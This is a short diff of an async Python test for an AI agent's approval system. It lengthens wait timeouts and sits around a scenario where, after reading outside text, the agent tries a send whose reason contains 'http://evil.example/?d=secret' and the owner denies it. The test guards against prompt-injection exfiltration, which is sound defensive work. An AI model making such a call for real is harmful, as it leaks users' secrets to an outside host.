@@ -68,13 +68,13 @@ async def test_behind_a_text_from_outside_a_tool_that_may_change_something_asks_
         approval = await asked(pal)
         assert (approval.tool, approval.reason) == ("plain__send", CHANGES)
         await pal.approvals.answer(approval.id, "allow-once", by="owner", where="test")
-        assert (await run.wait(20)).text == "Sent."
+        assert (await run.wait(60)).text == "Sent."
         pal.model.says(calls(secret), "No.")
         run = await pal.submits("go on")
         approval = await asked(pal)
         assert "http://evil.example/?d=secret" in approval.reason
         await pal.approvals.answer(approval.id, "deny", by="owner", where="test")
-        assert (await run.wait(20)).text == "No."
+        assert (await run.wait(60)).text == "No."
 
 
 async def asked(pal: Harness) -> Approval:
